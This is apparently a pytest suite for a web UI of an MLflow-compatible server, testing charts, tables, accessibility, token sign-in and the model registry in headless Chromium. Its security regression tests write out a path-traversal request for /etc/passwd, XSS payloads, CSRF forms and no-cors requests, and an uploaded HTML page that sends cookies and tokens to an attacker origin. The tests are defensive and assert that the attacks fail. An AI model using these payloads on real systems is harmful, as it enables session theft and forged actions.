"""The web UI of `ferry serve` (docs/semantics/ui.md): its embedded files over HTTP, and the
pages in headless Chromium (Debian's chromium driven by npm's playwright-core, tests/ui/*.mjs)
against a real server seeded through the REST API: no console errors or external requests,
charts with the expected series, a planted spike visible after downsampling and zoom, sort,
filter, columns, compare, an image, an artifact downloaded byte-exact, live updates, paging,
and a basic accessibility audit. Screenshots go to FERRY_UI_SCREENSHOTS (default: the test's
temporary directory) for review."""
import hashlib
import json
import os
import re
import pathlib
import shutil
import subprocess
import urllib.error
import urllib.request

import pytest

import ui_helpers
from serve_helpers import LocalServer, ServeProcess

ROOT = pathlib.Path(__file__).resolve().parents[2]
TABLE_RUNS = 250  # 3 pages of 100; the 10,000-run table is bench/ui_bench.py's


@pytest.fixture(scope="module")
def seeded(ferry_bin, tmp_path_factory):
    d = tmp_path_factory.mktemp("ui")
    server = ServeProcess(ferry_bin, d / "data")
    try:
        demo = ui_helpers.seed_demo(server.url)
        demo["tracked"] = ui_helpers.seed_tracked(server.url, d / "spool")
        table = ui_helpers.seed_table(server.url, TABLE_RUNS)
        yield server, demo, table, d
    finally:
        server.stop()


def get(url, headers=None):
    req = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, dict(r.headers), r.read()
    except urllib.error.HTTPError as e:
        return e.code, dict(e.headers), e.read()


def test_index_and_assets_are_served_with_types_etags_and_304(seeded):
    server = seeded[0]
    status, headers, body = get(server.url + "/")
    assert status == 200 and headers["Content-Type"] == "text/html; charset=utf-8"
    assert b'src="/ui/uplot/uPlot.iife.min.js"' in body and b"/ui/app.js" in body
    # Nothing from the internet: every src/href is local.
    assert b"http://" not in body and b"https://" not in body
    status, headers, body = get(server.url + "/ui/uplot/uPlot.iife.min.js")
    assert status == 200 and headers["Content-Type"] == "text/javascript; charset=utf-8"
    assert b"uPlot" in body and headers["Cache-Control"] == "no-cache"
    etag = headers["ETag"]
    status, headers, body = get(server.url + "/ui/uplot/uPlot.iife.min.js", {"If-None-Match": etag})
    assert status == 304 and body == b"" and headers["ETag"] == etag
    assert get(server.url + "/ui/app.css")[1]["Content-Type"] == "text/css; charset=utf-8"
    assert get(server.url + "/ui/views/run.js")[0] == 200
    assert get(server.url + "/ui/nope.js")[0] == 404
    assert get(server.url + "/ui/package.json")[0] == 404
    assert get(server.url + "/ui/%2e%2e/%2e%2e/etc/passwd")[0] == 400


def find_node():
    node = shutil.which("node")
    if not node or not os.path.exists("/usr/bin/chromium") or not (
            ROOT / "tests/tools/npm/node_modules/playwright-core").exists():
        pytest.fail("node, Debian's chromium and npm's playwright-core are needed: "
                    "run scripts/install-deps.sh")
    return node


def run_browser_script(script, cfg, tmp_path, timeout=180):
    """Runs tests/ui/SCRIPT with `cfg` as its JSON config file; its last stdout line, parsed."""
    (tmp_path / "cfg.json").write_text(json.dumps(cfg))
    p = subprocess.run([find_node(), str(ROOT / "tests/ui" / script), str(tmp_path / "cfg.json")],
                       capture_output=True, text=True, timeout=timeout)
    assert p.returncode == 0, p.stderr
    return json.loads(p.stdout.strip().splitlines()[-1])


def test_pages_in_headless_chromium(seeded, tmp_path):
    server, demo, table, d = seeded
    shots = pathlib.Path(os.environ.get("FERRY_UI_SCREENSHOTS") or d / "screenshots")
    shots.mkdir(parents=True, exist_ok=True)
    run_ids = [r["info"]["run_id"] for r in demo["runs"]]
    cfg = {"url": server.url, "out": str(shots),
           "demo": {"experiment_id": demo["experiment_id"], "runs": run_ids,
                    "spike": {"run": run_ids[0], "step": ui_helpers.SPIKE_STEP,
                              "value": ui_helpers.SPIKE_VALUE},
                    "running": run_ids[-1], "tracked": demo["tracked"]},
           "table": {"experiment_id": table}}
    out = run_browser_script("ui_test.mjs", cfg, tmp_path, timeout=300)
    print("screenshots:", shots)
    assert "error" not in out, out.get("error")
    # The one HTTP error is the deliberately malformed filter; no console error, no external request.
    assert out["problems"] == [f"http 400: {server.url}/ajax-api/2.0/mlflow/runs/search"], out["problems"]

    assert {"ui-demo", "table"} <= set(out["experiments"])
    # Runs table: sort by a metric, filter with the API's syntax (errors shown), choose columns.
    assert out["demo_rows"] == 5
    assert out["sorted_losses"] == sorted(out["sorted_losses"]) and len(out["sorted_losses"]) == 5
    assert out["filtered_rows"] == 3
    assert "invalid filter" in out["bad_filter_message"]
    assert out["host_column"] and out["arrow_focus"] == 2

    # Compare: every chart overlays the 5 runs and asked for no more points than it has pixels.
    charts = {c["key"]: c for c in out["compare"]}
    assert {"loss", "acc"} <= set(charts)
    for c in charts.values():
        assert c["series"] == 5 and c["runs"] == 5
        assert c["maxResults"] <= c["pixels"] and c["maxPointsPerRun"] <= c["pixels"], c
        assert c["pixels"] <= c["plotArea"], (c["pixels"], c["plotArea"])  # the plot area
    # 2000 steps on fewer pixels: downsampled, and the spike still reaches its full height.
    for name in ("spike", "spike_zoomed", "spike_smoothed_log"):
        s = out[name]
        assert s["in_answer"] and s["column_max"] == ui_helpers.SPIKE_VALUE, (name, s)
        assert s["y_max"] >= ui_helpers.SPIKE_VALUE and s["coloured_pixels"] > 0, (name, s)
    assert charts["loss"]["maxPointsPerRun"] < 2000
    # Issue 33: what users look at first opens first (not the alphabetical data/* first).
    assert out["compare_keys"] == ["loss", "acc", "data/train/wait_fraction"], out["compare_keys"]
    assert out["legend"] == {"n": 5, "match": True}
    assert out["hover"]["runs"] == 5 and out["hover"]["real"], out["hover"]
    steps = re.findall(r"step (\S+?)(?=resnet|$| )", out["hover"]["text"])
    assert len(steps) == 5 and all(x.isdigit() for x in steps), out["hover"]  # not "891.4514"
    assert out["params_diff"] == [["batch_size", True, 6], ["epochs", False, 6], ["lr", True, 6],
                                  ["optim", True, 6]], out["params_diff"]
    assert out["params_only"] == ["batch_size", "lr", "optim"]
    assert out["pinned_order"][0] == "acc" and out["pinned_url"].startswith("acc,loss")
    # Zoom fetched steps 1000..1500 again (finer: one bucket per step now).
    assert out["zoom"]["range"] == [1000, 1500] and out["zoom"]["x0"] >= 1000 and out["zoom"]["x1"] <= 1500
    assert out["spike_zoomed"]["line"] == ui_helpers.SPIKE_VALUE
    lo, hi = out["zoom_keyboard"]  # the middle half of 1000..1500
    assert 1100 <= lo <= 1150 and 1350 <= hi <= 1400, out["zoom_keyboard"]
    assert all(o["log"] and o["xmode"] == "relative" for o in out["options_redraw"])
    # Resizing the window refetches for the new width, still at most a point per pixel.
    for r in out["resized"]:
        assert r["pixels"] > out["resized_from"] and r["maxPointsPerRun"] <= r["maxResults"] <= r["pixels"], r

    # Run page.
    ov = out["overview"]
    assert ov["Git commit"].startswith("003f9a1c") and ov["Host"] == "gpu-node-0"
    assert ov["Exit code"] == "0" and ov["Status"] == "FINISHED" and ov["Duration"] == "8m 20s"
    assert out["sections"] == ["Metrics", "System", "GPU", "Data"]
    assert out["run_metrics_order"] == ["acc", "loss"]  # pinned in the compare view
    assert out["run_metrics_unpinned"] == ["loss", "acc"]
    assert out["edit_controls"] == 4
    assert out["summary_tables"] == ["Summary"]  # once, not again as "Latest metric values"
    sa = out["system_axis"]
    assert sa["xmode"] == "relative" and sa["label"] == "time since start", sa
    assert sa["loss_label"] == "step"
    assert sa["ticks"] and all(re.fullmatch(r"\d+s|\d+:\d\d(:\d\d)?", t) for t in sa["ticks"]), sa
    assert out["run_charts"] == sorted(["acc", "loss", "system/cpu_utilization_percentage",
                                        "system/system_memory_usage_megabytes",
                                        "system/gpu_0_utilization_percentage", "data/train/wait_fraction"])
    assert out["image"] == {"w": 32, "alt": "samples at step 200"}
    assert out["image_step0"].endswith("/images/samples/step-00000000.png")
    assert out["log_tail"].endswith("training done\n")
    # The resumed run's attempts, each with its own output log; the latest one's log is shown.
    assert [r[:2] for r in out["attempts"]] == [["0", "interrupted, resumed by a later attempt"],
                                                ["1", "latest"]], out["attempts"]
    assert out["attempts"][0][2].startswith("output.log") and \
        out["attempts"][1][2].startswith("output-attempt1.log")
    assert out["attempt_overview"] == "1 (resumed: 2 attempts)"
    assert out["checkpoints"][:4] == ["ckpt.pt", "700.0 MiB", "0a1b2c3d", "ok"]
    assert out["checkpoints"][4] == "s3://ckpt/resnet/0/ckpt.pt ferry cp 's3://ckpt/resnet/0/ckpt.pt' ."
    assert out["checkpoint_download"] == {"name": "model.pt", "size": 4096}
    assert out["weights_size_text"] == "195.3 KiB"
    assert out["download"] == {"name": "weights.bin", "size": len(demo["weights"]),
                               "sha256": hashlib.sha256(demo["weights"]).hexdigest()}
    assert out["live"] is True
    # A run logged by ferry.track: its config as params, its log_image key with 3 steps.
    assert out["tracked"]["params"] == ["lr", "optim.name"]
    assert out["tracked"]["summary"] == ["data/train/batches_per_second", "loss"]
    sp = out["tracked"]["single_point"]
    assert sp["points"] == 1 and sp["columns"] == 1 and sp["coloured"] > 0, sp
    assert out["tracked"]["image"] == {"key": "samples/val", "w": 16, "steps": "3",
                                       "alt": "samples/val at step 20"}

    # Table paging and sorting over many runs.
    assert out["table_first"]["rows"] == 100
    assert out["table_page2"] == "Runs 101–200"
    assert out["table_sorted_first"] == "trial-00000"

    # Accessibility: every control labelled, text contrast >= 4.5:1, on every page checked.
    for page in ("a11y_experiments", "a11y_runs", "a11y_compare", "a11y_run"):
        assert out[page]["unlabeled"] == [] and out[page]["low_contrast"] == [], (page, out[page])
    assert out["keyboard"]["first_tab"] == "Skip to content" and out["keyboard"]["main_focused"]


def test_chart_data_functions_under_node():
    """src/ui/web/series.js (pixel columns, spikes, smoothing, time-axis zoom) in node's test runner."""
    p = subprocess.run([find_node(), "--test", str(ROOT / "tests/ui/series_test.mjs")],
                       capture_output=True, text=True, timeout=120)
    assert p.returncode == 0, p.stdout + p.stderr
    assert "# fail 0" in p.stdout


def test_sign_in_with_a_read_token_in_chromium(ferry_bin, tmp_path):
    """A server with tokens (--allow-remote needs them): the UI's files load without one, the
    API does not; the page asks for a token, refuses a wrong one, shows the data with a read-only
    token kept in a SameSite=Strict cookie (links and downloads carry it); the cookie never
    writes, even holding the read-write token; Sign out forgets it."""
    (tmp_path / "rw").write_text("write-token-0123456789\n")
    (tmp_path / "ro").write_text("read+token/0123456789=\n")  # cookie-encoded characters
    server = ServeProcess(ferry_bin, tmp_path / "data", "--token-file", tmp_path / "rw",
                          "--read-token-file", tmp_path / "ro")
    try:
        assert get(server.url + "/")[0] == 200 and get(server.url + "/ui/app.js")[0] == 200
        assert get(server.url + "/ajax-api/2.0/mlflow/experiments/search?max_results=10")[0] == 401
        c = ui_helpers.Client(server.url, token="write-token-0123456789")
        exp = c.api("experiments/create", {"name": "locked"})["experiment_id"]
        run = c.api("runs/create", {"experiment_id": exp, "run_name": "r"})["run"]
        blob = os.urandom(50_000)
        c.put_artifact(run, "model.bin", blob)
        cfg = {"url": server.url, "read_token": "read+token/0123456789=",
               "write_token": "write-token-0123456789", "run_id": run["info"]["run_id"],
               "artifact": "model.bin"}
        out = run_browser_script("signin_test.mjs", cfg, tmp_path)
        assert "error" not in out, out["error"]
        assert out["first_heading"] == "Sign in"
        assert out["rejected"] == "The token was not accepted."
        assert sorted(out["experiments"]) == ["Default", "locked"]
        assert {"name": "ferry_token", "sameSite": "Strict", "httpOnly": True} in out["cookie"]
        assert not out["cookie_value_is_token"] and not out["script_sees_cookie"]
        assert out["write_sign_in"] == 204
        assert out["download"] == blob.hex()
        assert out["cookie_write"]["status"] == 403
        assert out["cookie_write"]["body"]["error_code"] == "PERMISSION_DENIED"
        assert out["after_sign_out"] == 0
        # Editing: a read-only sign-in has no edit controls, its token neither unlocks them nor
        # writes through the API; the write token edits, and values with markup stay text.
        assert out["ro_controls"] == 0
        assert out["ro_unlock"] == "This token is read-only: it cannot edit runs."
        assert out["ro_direct"] == 403
        xss = '<img src=x onerror="window.__pwned=1">'
        assert out["xss"] == {"pwned": 0, "imgs": 0, "title": f"run {xss}", "tag": xss,
                              "note": "line 1\n<script>window.__pwned=2</script>"}, out["xss"]
        assert "This run is deleted" in out["deleted_note"]
        got = c.request("GET", f"/api/2.0/mlflow/runs/get?run_id={run['info']['run_id']}")["run"]
        assert got["info"]["lifecycle_stage"] == "active" and got["info"]["run_name"] == f"run {xss}"
        tags = {t["key"]: t["value"] for t in got["data"]["tags"]}
        assert "team" not in tags and tags["mlflow.note.content"].startswith("line 1\n")
        assert out["signin_kept"], "a late answer replaced the sign-in form"
        # The 401s before signing in and with the wrong token are the only HTTP errors.
        assert all(x.startswith("http 401") or "experiments/create" in x or
                   x.startswith("http 403") and x.endswith("runs/set-tag")
                   for x in out["problems"]), out
        assert "write-token" not in server.log() and "read+token" not in server.log()
    finally:
        server.stop()


class Attacker:
    """The attacker's web server on another origin (another port): serves /frame (evil.html framed
    and opened from another origin) and /csrf (a text/plain form and no-cors fetches against the
    default server), and records every request its pages' scripts send back (/steal, /img)."""

    def __init__(self, victim_ui, artifact, default_url, run_id):
        import http.server
        self.stolen = []
        outer = self
        pages = {
            "/frame": f'<iframe src="{victim_ui}{artifact}"></iframe>'
                      f'<script>window.open("{victim_ui}{artifact}")</script>',
            "/csrf": f"""<form id="f" method="POST" enctype="text/plain"
                action="{default_url}/api/2.0/mlflow/experiments/create">
              <input name='{{"name": "csrf-form", "x": "' value='"}}'></form>
              <script>
              fetch("{default_url}/api/2.0/mlflow/experiments/create", {{method: "POST",
                    mode: "no-cors", body: JSON.stringify({{name: "csrf-fetch"}})}});
              fetch("{default_url}/api/2.0/mlflow/runs/delete", {{method: "POST", mode: "no-cors",
                    headers: {{"Content-Type": "text/plain"}}, body: JSON.stringify({{run_id: "{run_id}"}})}});
              setTimeout(() => document.getElementById("f").submit(), 300);
              </script>""",
        }

        class H(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_GET(self):
                if self.path in pages:
                    body = pages[self.path].encode()
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                else:
                    if not self.path.startswith("/favicon"):
                        outer.stolen.append(self.path)
                    body = b""
                    self.send_response(204)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

        self.server = LocalServer(H)
        self.url = self.server.url


def test_other_origins_and_uploaded_html_cannot_act_for_the_user_in_chromium(ferry_bin, tmp_path):
    """Issue 28: an uploaded evil.html, opened by a user signed in with the write token, read the
    token from the cookie, sent it to another port and created an experiment; a page of another
    origin created experiments and deleted runs on the default server with text/plain forms and
    no-cors POSTs. Now the artifact downloads (attachment, sandboxing CSP, never HTML, framing
    refused), the cookie is HttpOnly and only reads, and cross-site writes are refused."""
    (tmp_path / "rw").write_text("write-token-0123456789\n")
    locked = ServeProcess(ferry_bin, tmp_path / "data", "--token-file", tmp_path / "rw")
    default = ServeProcess(ferry_bin, tmp_path / "open")
    attacker = None
    try:
        c = ui_helpers.Client(locked.url, token="write-token-0123456789")
        exp = c.api("experiments/create", {"name": "victim"})["experiment_id"]
        run = c.api("runs/create", {"experiment_id": exp, "run_name": "r"})["run"]
        root = run["info"]["artifact_uri"].removeprefix("mlflow-artifacts:/")
        d = ui_helpers.Client(default.url)
        dexp = d.api("experiments/create", {"name": "kept"})["experiment_id"]
        drun = d.api("runs/create", {"experiment_id": dexp, "run_name": "keep-me"})["run"]["info"]["run_id"]
        attacker = Attacker(locked.url, f"/api/2.0/mlflow-artifacts/artifacts/{root}/evil.html",
                            default.url, drun)
        evil = (f"<script>fetch('/api/ferry/whoami').then(r => r.text()).then(t => "
                f"navigator.sendBeacon('{attacker.url}/steal', document.cookie + '|' + t));"
                f"fetch('/ajax-api/2.0/mlflow/experiments/create', {{method: 'POST', headers: "
                f"{{'Content-Type': 'application/json'}}, body: '{{\"name\": \"xss-pwned\"}}'}});"
                f"new Image().src = '{attacker.url}/img?c=' + encodeURIComponent(document.cookie);"
                f"</script>").encode()
        c.put_artifact(run, "evil.html", evil)
        cfg = {"url": locked.url, "write_token": "write-token-0123456789", "evil_url": attacker.url,
               "artifact": f"/api/2.0/mlflow-artifacts/artifacts/{root}/evil.html"}
        out = run_browser_script("attack_test.mjs", cfg, tmp_path)
        assert "error" not in out, out["error"]
        assert out["downloaded"], out
        assert out["script_sees_cookie"] is False
        assert attacker.stolen == [], attacker.stolen  # no beacon, no image: the script never ran
        names = [e["name"] for e in c.api("experiments/search", {"max_results": 100})["experiments"]]
        assert "xss-pwned" not in names
        dnames = [e["name"] for e in d.api("experiments/search", {"max_results": 100})["experiments"]]
        assert "csrf-form" not in dnames and "csrf-fetch" not in dnames, dnames
        status = d.request("GET", f"/api/2.0/mlflow/runs/get?run_id={drun}")["run"]["info"]["lifecycle_stage"]
        assert status == "active"
    finally:
        if attacker:
            attacker.server.stop()
        locked.stop()
        default.stop()


def test_registry_and_datasets_in_chromium(ferry_bin, tmp_path):
    """The Models page (the Model Registry), one model's versions with stage, aliases and a link
    to the source run, and that run's dataset and logged model, seeded as MLflow 3 clients log
    them; a model that does not exist says so."""
    server = ServeProcess(ferry_bin, tmp_path / "data")
    try:
        c = ui_helpers.Client(server.url)
        exp = c.api("experiments/create", {"name": "reg-ui"})["experiment_id"]
        run = c.api("runs/create", {"experiment_id": exp, "run_name": "train"})["run"]["info"]["run_id"]
        model_id = c.api("logged-models", {"experiment_id": exp, "name": "model",
                                           "source_run_id": run})["model"]["info"]["model_id"]
        c.api("runs/outputs", {"run_id": run, "models": [{"model_id": model_id, "step": 7}]})
        c.api("runs/log-inputs", {"run_id": run, "datasets": [{
            "tags": [{"key": "mlflow.data.context", "value": "training"}],
            "dataset": {"name": "train-set", "digest": "5ad3c2f1", "source_type": "local",
                        "source": "{\"uri\": \"/data/train.parquet\"}"}}]})
        c.api("registered-models/create", {"name": "churn <b>model</b>", "description": "weekly"})
        for _ in range(2):
            c.api("model-versions/create", {"name": "churn <b>model</b>",
                                            "source": "models:/" + model_id, "run_id": run,
                                            "model_id": model_id})
        c.api("registered-models/alias", {"name": "churn <b>model</b>", "alias": "champion",
                                          "version": "2"})
        c.api("model-versions/transition-stage", {"name": "churn <b>model</b>", "version": "1",
                                                  "stage": "Production"})
        cfg = {"url": server.url, "out": os.environ.get("FERRY_UI_SCREENSHOTS") or str(tmp_path),
               "model": "churn <b>model</b>",
               "run_id": run, "model_id": model_id}
        out = run_browser_script("registry_test.mjs", cfg, tmp_path)
    finally:
        server.stop()
    assert "error" not in out, out["error"]
    # The one HTTP error is the missing model's page.
    assert [p for p in out["problems"] if "no-such-model" not in p] == [], out["problems"]
    assert out["nav_current"] == "Models"
    name, latest, aliases, _ = out["models"][0]
    assert name == "churn <b>model</b>"  # shown as text, not markup
    assert latest == "v2 None, v1 Production" and aliases == "@champion → v2", out["models"]
    assert out["heading"] == "churn <b>model</b>"
    assert [v[:3] for v in out["versions"]] == [["v2", "None", "@champion"], ["v1", "Production", ""]]
    assert out["versions"][1][3] == run[:8]
    assert out["run_hash"] == f"#/runs/{run}"
    assert len(out["datasets"]) == 1 and "train-set" in out["datasets"][0] and \
        "5ad3c2f1 (training)" in out["datasets"][0], out["datasets"]
    assert out["model_outputs"] == [f"{model_id}step 7"], out["model_outputs"]
    assert "not found" in out["missing"], out["missing"]
    for page in ("a11y_models", "a11y_model", "a11y_run"):
        assert out[page]["unlabeled"] == [] and out[page]["low_contrast"] == [], (page, out[page])
